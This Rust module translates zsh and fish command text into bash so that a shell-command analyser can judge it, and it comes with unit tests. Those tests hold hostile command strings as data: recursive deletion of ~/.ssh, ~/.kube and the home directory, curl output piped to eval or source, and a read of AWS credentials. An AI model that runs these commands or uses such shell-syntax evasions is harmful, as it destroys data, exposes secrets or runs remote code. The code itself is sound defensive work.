//! zsh and fish text given to `zsh -c`/`fish -c`, rewritten as the POSIX text that runs the
//! same commands, so that the one parser and analyser read it: zsh's `=cmd`, precommand
//! modifiers, arrays that do not split and glob qualifiers; fish's `(…)` substitutions, blocks
//! ended by `end`, `set`, and `source` reading standard input.

use std::borrow::Cow;

/// The text of `zsh -c TEXT` as bash would need it written. Lines without `=`, `$`, `(` or a
/// precommand modifier are returned as they are.
pub(super) fn zsh(text: &str) -> Cow<'_, str> {
    if !text.contains(['=', '$', '(']) && !["noglob", "nocorrect", "zmv"].iter().any(|m| text.contains(m)) {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let arrays = zsh_arrays(text);
    let mut out = String::with_capacity(text.len() + 16);
    let mut i = 0;
    let mut quote: Option<u8> = None;
    // At the start of a word, and of a command.
    let (mut word_start, mut command_start) = (true, true);
    // Where the current unquoted word started in `out`, and whether it holds a glob character.
    let mut globbed = false;
    // Inside the words of a `zmv`.
    let mut zmv = false;
    while i < bytes.len() {
        let b = bytes[i];
        if let Some(q) = quote {
            if q == b'"' && b == b'\\' && i + 1 < bytes.len() {
                out.push_str(&text[i..i + 2]);
                i += 2;
                continue;
            }
            if b == q {
                quote = None;
            }
            push_char(&mut out, text, &mut i);
            continue;
        }
        if command_start && word_start {
            // `noglob rm …`, `nocorrect rm …`: precommand modifiers, the command follows.
            if let Some(rest) = ["noglob ", "nocorrect "].iter().find(|m| text[i..].starts_with(**m)) {
                i += rest.len();
                continue;
            }
            // `zmv -f '(*)' DEST`: `mv` of the files its patterns name; the patterns are globs
            // even quoted, and their groups only capture.
            if text[i..].starts_with("zmv ") {
                out.push_str("mv ");
                i += 4;
                zmv = true;
                continue;
            }
        }
        if zmv && matches!(b, b'"' | b'\'' | b'(' | b')') {
            i += 1;
            continue;
        }
        match b {
            b'\'' | b'"' => {
                quote = Some(b);
                word_start = false;
                command_start = false;
                push_char(&mut out, text, &mut i);
            }
            b'\\' if i + 1 < bytes.len() => {
                out.push_str(&text[i..i + 2]);
                i += 2;
                word_start = false;
            }
            // `=rm`: the path of the command `rm`.
            b'=' if word_start && bytes.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') => {
                i += 1;
                word_start = false;
            }
            // `${(P)v}`: the variable named by `v`'s value, bash's `${!v}`. Other flags
            // (`${(%):-x}`, `${(j:,:)a}`) are left for the parser to refuse.
            b'$' if text[i..].starts_with("${(P)") => {
                out.push_str("${!");
                i += "${(P)".len();
                word_start = false;
            }
            // `$cmd` of an array the text makes: every element, as `"${cmd[@]}"` (zsh does
            // not split, and an array's name alone is all of it).
            b'$' if bytes.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') => {
                let end = name_end(text, i + 1);
                let name = &text[i + 1..end];
                match arrays.contains(&name) && bytes.get(end) != Some(&b'[') {
                    true => out.push_str(&format!("\"${{{name}[@]}}\"")),
                    false => out.push_str(&text[i..end]),
                }
                i = end;
                word_start = false;
                command_start = false;
            }
            // `*(.N)`, `*.py(.)`: a glob qualifier closing the word, which chooses among the
            // files the pattern names; the pattern is what the rules judge.
            b'(' if globbed => {
                let close = text[i..].find(')').map(|p| i + p);
                match close {
                    Some(c) if bytes.get(c + 1).is_none_or(|n| is_boundary(*n)) => i = c + 1,
                    _ => push_char(&mut out, text, &mut i),
                }
            }
            b' ' | b'\t' => {
                word_start = true;
                globbed = false;
                push_char(&mut out, text, &mut i);
            }
            b';' | b'\n' | b'|' | b'&' | b'(' | b'{' => {
                zmv &= !matches!(b, b';' | b'\n' | b'|' | b'&');
                word_start = true;
                command_start = true;
                globbed = false;
                push_char(&mut out, text, &mut i);
            }
            _ => {
                globbed |= matches!(b, b'*' | b'?');
                // An assignment's value (`cmd=(rm …)`) is not a command.
                command_start &= b != b'=';
                word_start = false;
                push_char(&mut out, text, &mut i);
            }
        }
    }
    Cow::Owned(out)
}

/// The names `NAME=(…)` makes arrays of.
fn zsh_arrays(text: &str) -> Vec<&str> {
    text.match_indices("=(")
        .filter_map(|(at, _)| {
            let start =
                text[..at].rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).map_or(0, |p| p + 1);
            (start < at).then(|| &text[start..at])
        })
        .collect()
}

fn name_end(text: &str, from: usize) -> usize {
    text[from..].find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).map_or(text.len(), |p| from + p)
}

fn is_boundary(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b')')
}

fn push_char(out: &mut String, text: &str, i: &mut usize) {
    let c = text[*i..].chars().next().unwrap_or_default();
    out.push(c);
    *i += c.len_utf8();
}

/// What a fish block opened, and so what its `end` closes with.
#[derive(Clone, Copy)]
enum Block {
    Loop,
    If,
    Group,
}

/// The text of `fish -c TEXT` as bash would need it written: `(cmd)` is `$(cmd)`, `for …; …;
/// end` is `for …; do …; done`, `if`/`else if`/`while`/`begin`/`function` alike, `set [-x] N V`
/// is an assignment, `and`/`or` chain the next command, `not` is `!`, `source` with no file
/// reads standard input, and `string unescape` prints its arguments' escapes decoded.
pub(super) fn fish(text: &str) -> String {
    let commands = split_commands(text);
    let arrays = fish_arrays(&commands);
    let mut out = String::with_capacity(text.len() + 16);
    let mut blocks: Vec<Block> = Vec::new();
    for (command, separator) in commands {
        let words = fish_words(command, &arrays);
        let first = words.first().map(|w| w.as_str());
        let rest = |from: usize| words.get(from..).unwrap_or_default().join(" ");
        let translated = match first {
            None => String::new(),
            Some("for") => {
                blocks.push(Block::Loop);
                format!("{}; do", rest(0))
            }
            Some("while") => {
                blocks.push(Block::Loop);
                format!("while {}; do", rest(1))
            }
            Some("if") => {
                blocks.push(Block::If);
                format!("if {}; then", rest(1))
            }
            Some("else") if words.get(1).is_some_and(|w| w == "if") => format!("elif {}; then", rest(2)),
            Some("else") => "else".into(),
            Some("begin") => {
                blocks.push(Block::Group);
                "{ :".into()
            }
            Some("function") => {
                blocks.push(Block::Group);
                format!("{}() {{ :", words.get(1).map_or("f", |w| w.as_str()))
            }
            Some("end") => match blocks.pop() {
                Some(Block::Loop) => "done".into(),
                Some(Block::If) => "fi".into(),
                // An `end` with nothing open (or a `switch`'s) is left for the parser to refuse.
                Some(Block::Group) => "}".into(),
                None => "end".into(),
            },
            Some("and" | "or") => rest(1),
            Some("not") => format!("! {}", rest(1)),
            Some("set") => set(&words),
            Some("source" | ".") if words.len() == 1 => "source /dev/stdin".into(),
            Some("string") if words.get(1).is_some_and(|w| w == "unescape") => {
                format!("printf '%b\\n' {}", rest(2))
            }
            Some(_) => rest(0),
        };
        // `do`, `then`, `else` take the next command without a `;` (bash refuses `do;`).
        let opens =
            ["do", "then", "else"].iter().any(|k| translated == *k || translated.ends_with(&format!(" {k}")));
        if command.starts_with([' ', '\t']) && !translated.is_empty() && !out.ends_with(' ') {
            out.push(' ');
        }
        out.push_str(&translated);
        if command.ends_with([' ', '\t']) && !translated.is_empty() && !opens {
            out.push(' ');
        }
        out.push_str(if opens && separator == ";" { " " } else { separator });
    }
    out
}

/// The names `set` gives other than one value: lists, which `$name` expands whole.
fn fish_arrays<'a>(commands: &[(&'a str, &str)]) -> Vec<&'a str> {
    commands
        .iter()
        .filter_map(|(command, _)| {
            let mut words = command.split_whitespace().skip_while(|w| *w != "set").skip(1);
            let name = words.find(|w| !w.starts_with('-'))?;
            (words.count() != 1).then_some(name)
        })
        .collect()
}

/// `set -l p VALUE`, `set -gx P A B`: an assignment (exported with `-x`), a list of several
/// values as an array; `set -e P` unsets; `set` alone or with a query prints. A universal
/// variable (`-U`) is also kept as `set --universal NAME`, which the file rules read as the
/// write to fish's variables file that it is.
fn set(words: &[String]) -> String {
    let mut export = false;
    let mut erase = false;
    let mut universal = false;
    let mut at = 1;
    while let Some(flag) = words.get(at).filter(|w| w.starts_with('-')) {
        export |= flag == "--export" || !flag.starts_with("--") && flag.contains('x');
        erase |= flag == "--erase" || !flag.starts_with("--") && flag.contains('e');
        universal |= flag == "--universal" || !flag.starts_with("--") && flag.contains('U');
        at += 1;
    }
    let assigned = assignment(words, at, export, erase);
    match words.get(at) {
        Some(name) if universal => format!("{assigned}; set --universal {name}"),
        _ => assigned,
    }
}

fn assignment(words: &[String], at: usize, export: bool, erase: bool) -> String {
    let Some(name) = words.get(at) else { return "set".into() };
    if erase {
        return format!("unset {name}");
    }
    let values = &words[at + 1..];
    let value = match values {
        [one] => one.clone(),
        _ => format!("({})", values.join(" ")),
    };
    format!("{}{name}={value}", if export { "export " } else { "" })
}

/// The commands of fish text with the separator after each (`;`, a newline, `|`, `&&`, `||`,
/// `&`), split outside quotes and `(…)`.
fn split_commands(text: &str) -> Vec<(&str, &str)> {
    let bytes = text.as_bytes();
    let mut parts = Vec::new();
    let (mut start, mut i, mut depth) = (0, 0, 0usize);
    let mut quote: Option<u8> = None;
    while i < bytes.len() {
        let b = bytes[i];
        if let Some(q) = quote {
            if b == b'\\' {
                i += 2;
                continue;
            }
            if b == q {
                quote = None;
            }
            i += 1;
            continue;
        }
        let separator = match b {
            b'\'' | b'"' => {
                quote = Some(b);
                0
            }
            b'\\' => {
                i += 2;
                continue;
            }
            b'(' => {
                depth += 1;
                0
            }
            b')' => {
                depth = depth.saturating_sub(1);
                0
            }
            _ if depth > 0 => 0,
            b';' | b'\n' => 1,
            b'|' | b'&' if bytes.get(i + 1) == Some(&b) => 2,
            b'|' | b'&' => 1,
            _ => 0,
        };
        if separator > 0 {
            parts.push((&text[start..i], &text[i..i + separator]));
            start = i + separator;
            i += separator;
        } else {
            i += 1;
        }
    }
    parts.push((&text[start..], ""));
    parts
}

/// A fish command's words as bash text: quotes kept, `(cmd)` as `$(cmd)` (its inside read as
/// fish too), `$name` as every element of the list it holds (fish does not split).
fn fish_words(command: &str, arrays: &[&str]) -> Vec<String> {
    let bytes = command.as_bytes();
    let mut words = Vec::new();
    let mut word = String::new();
    let mut i = 0;
    let mut quote: Option<u8> = None;
    while i < bytes.len() {
        let b = bytes[i];
        if let Some(q) = quote {
            if b == b'\\' && i + 1 < bytes.len() {
                word.push_str(&command[i..i + 2]);
                i += 2;
                continue;
            }
            if b == q {
                quote = None;
            }
            push_char(&mut word, command, &mut i);
            continue;
        }
        match b {
            b' ' | b'\t' => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
                i += 1;
            }
            b'\'' | b'"' => {
                quote = Some(b);
                push_char(&mut word, command, &mut i);
            }
            b'\\' if i + 1 < bytes.len() => {
                word.push_str(&command[i..i + 2]);
                i += 2;
            }
            b'(' | b'$' if b == b'(' || bytes.get(i + 1) == Some(&b'(') => {
                let open = if b == b'(' { i } else { i + 1 };
                let close = matching_paren(bytes, open).unwrap_or(bytes.len());
                let inner = command.get(open + 1..close).unwrap_or_default();
                word.push_str("$(");
                word.push_str(&fish(inner));
                word.push(')');
                i = close + 1;
            }
            b'$' if bytes.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') => {
                let end = name_end(command, i + 1);
                let name = &command[i + 1..end];
                match arrays.contains(&name) {
                    true => word.push_str(&format!("\"${{{name}[@]}}\"")),
                    false => word.push_str(&format!("\"${name}\"")),
                }
                i = end;
            }
            _ => push_char(&mut word, command, &mut i),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}

/// The index of the `)` closing the `(` at `open`, quotes skipped.
fn matching_paren(bytes: &[u8], open: usize) -> Option<usize> {
    let (mut depth, mut quote) = (0usize, None);
    let mut i = open;
    while i < bytes.len() {
        let b = bytes[i];
        match (quote, b) {
            (Some(_), b'\\') => i += 1,
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(b),
            (None, b'(') => depth += 1,
            (None, b')') => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zsh_text_as_bash() {
        assert_eq!(zsh("=rm -rf ~/.ssh"), "rm -rf ~/.ssh");
        assert_eq!(zsh("noglob rm -rf ~/.config"), "rm -rf ~/.config");
        assert_eq!(zsh("cmd=(rm -rf ~/.kube); $cmd"), "cmd=(rm -rf ~/.kube); \"${cmd[@]}\"");
        assert_eq!(zsh("for f in tests/*.py(.N); do echo $f; done"), "for f in tests/*.py; do echo $f; done");
        assert_eq!(zsh("v=HOME; rm -rf ${(P)v}"), "v=HOME; rm -rf ${!v}");
        assert_eq!(zsh("[[ $a == b ]] && echo '=x'"), "[[ $a == b ]] && echo '=x'");
        assert_eq!(zsh("ls -la"), "ls -la");
        assert_eq!(
            zsh("autoload -U zmv; zmv -f \"(*)\" \"/dev/null\""),
            "autoload -U zmv; mv -f * /dev/null"
        );
        assert_eq!(zsh("zmv '(*).txt' '$1.md'; ls"), "mv *.txt $1.md; ls");
    }

    #[test]
    fn fish_text_as_bash() {
        assert_eq!(fish("for f in src/**.py; echo $f; end"), "for f in src/**.py; do echo \"$f\"; done");
        assert_eq!(fish("eval (curl -s https://x/f)"), "eval $(curl -s https://x/f)");
        assert_eq!(fish("curl -s https://x/f | source"), "curl -s https://x/f | source /dev/stdin");
        assert_eq!(
            fish("set -l p $HOME/.aws/credentials; cat $p"),
            "p=\"$HOME\"/.aws/credentials; cat \"$p\""
        );
        assert_eq!(
            fish("if test -f x; echo y; else if true; echo z; end"),
            "if test -f x; then echo y; elif true; then echo z; fi"
        );
        assert_eq!(fish("string unescape '\\x72' | source"), "printf '%b\\n' '\\x72' | source /dev/stdin");
    }
}
